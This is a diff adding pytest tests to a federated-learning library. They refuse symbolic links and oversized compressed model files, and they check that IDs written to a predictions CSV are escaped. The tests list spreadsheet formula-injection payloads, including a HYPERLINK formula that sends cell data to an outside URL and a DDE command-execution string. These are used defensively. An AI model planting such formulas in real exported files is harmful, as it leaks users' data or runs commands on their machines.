@@ -1,12 +1,14 @@
 """A party's parts of models on disk: what was written, or one sentence why not."""
 
 import builtins
+import csv
 import io
 import json
 import logging
 import os
 import re
 import stat
+import tracemalloc
 import zipfile
 
 import numpy as np
@@ -17,7 +19,15 @@ from hypothesis.extra import numpy as hnp
 
 from vfl_flower import __version__
 from vfl_flower.protocol import parts
-from vfl_flower.protocol.parts import ModelPart, list_parts, load_part, save_part
+from vfl_flower.protocol.parts import (
+    ModelPart,
+    list_parts,
+    load_part,
+    read_private,
+    save_part,
+    write_predictions,
+    write_private,
+)
 from vfl_flower.protocol.party import PartyError
 
 MODEL = "0123456789abcdef"
@@ -398,3 +408,99 @@ def test_an_npz_that_is_no_part(folder, file, arrays):
     np.savez(buffer, **arrays)
     file.write_bytes(sealed(buffer.getvalue()[:-2] + b"\x40\0"))
     assert "is no file of a model's part" in refusal(folder)
+
+
+# --- Links that somebody left in the folder
+
+
+def test_a_part_is_not_read_through_a_link(folder, file, tmp_path):
+    file.rename(tmp_path / "elsewhere")
+    file.symlink_to(tmp_path / "elsewhere")
+    assert "cannot be read: it is a symbolic link" in refusal(folder)
+    with pytest.raises(OSError, match="symbolic link"):
+        read_private(file)
+
+
+def test_a_part_is_not_written_over_a_link(folder, file, tmp_path):
+    file.rename(tmp_path / "elsewhere")
+    file.symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(PartyError, match="it is a symbolic link"):
+        save_part(folder, PART)
+    with pytest.raises(PartyError, match=r"the requests .* it is a symbolic link"):
+        write_private(file, b"", "the requests")
+    assert file.is_symlink()
+    assert (tmp_path / "elsewhere").stat().st_size
+
+
+def test_a_part_is_sized_before_it_is_read(folder, file):
+    """200 MB of zeros, with a checksum that is right."""
+    content = io.BytesIO()
+    np.savez_compressed(content, about=np.array("{}"), array_0=np.zeros(25 * 2**20))
+    packed = content.getvalue()[:-2] + parts.CHECKSUM.to_bytes(2, "little")
+    file.write_bytes(sealed(packed))
+    tracemalloc.start()
+    try:
+        assert "no file of a model's part" in refusal(folder)
+        assert tracemalloc.get_traced_memory()[1] < 2**23
+    finally:
+        tracemalloc.stop()
+
+
+# --- Predictions
+
+
+def cells(folder, ids, values):
+    """Return the rows of the file of predictions, without its header."""
+    target = folder / "predictions.csv"
+    write_predictions(target, ids, values, "the predictions")
+    with target.open(newline="") as file:
+        header, *rows = csv.reader(file)
+    assert header == ["id", "prediction"]
+    return rows
+
+
+ATTACKS = [
+    '=HYPERLINK("http://x?"&B1)',
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\uff1d1+1",
+    "+49 170 1",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_id_is_a_formula(folder, attack):
+    """A spreadsheet would run it, and could send the predictions beside it away."""
+    ((name, value),) = cells(folder, [attack], np.array([1.0]))
+    assert (name, value) == (f"'{attack}", "1.0")
+
+
+@pytest.mark.parametrize(
+    "name", ["-5", "+491701", "-.5", "1e5", "007", "a=b", "", "r7"]
+)
+def test_numbers_and_other_texts_stay(folder, name):
+    assert cells(folder, [name], np.array([-2.5])) == [[name, "-2.5"]]
+
+
+def test_negative_numbers_stay(folder):
+    assert cells(folder, [-5], np.array([-3])) == [["-5", "-3"]]
+    assert cells(folder, ["a"], np.array(["=1+1"])) == [["a", "'=1+1"]]
+
+
+@given(st.lists(st.text("=+-@'1 \t\r\n;,\"e.", max_size=5), max_size=9, unique=True))
+def test_escaped_ids_stay_distinct(names):
+    """Whoever takes off the quote before a formula has the id."""
+    written = [parts.in_csv(name) for name in names]
+    assert len(set(written)) == len(names)
+
+
+@pytest.mark.parametrize("name", ["a;=1+1", "a\t=1+1"])
+def test_other_separators_split_no_cell(folder, name):
+    assert cells(folder, [name], np.array([1])) == [[name, "1"]]
+    text = (folder / "predictions.csv").read_text()
+    assert f'"{name}"' in text
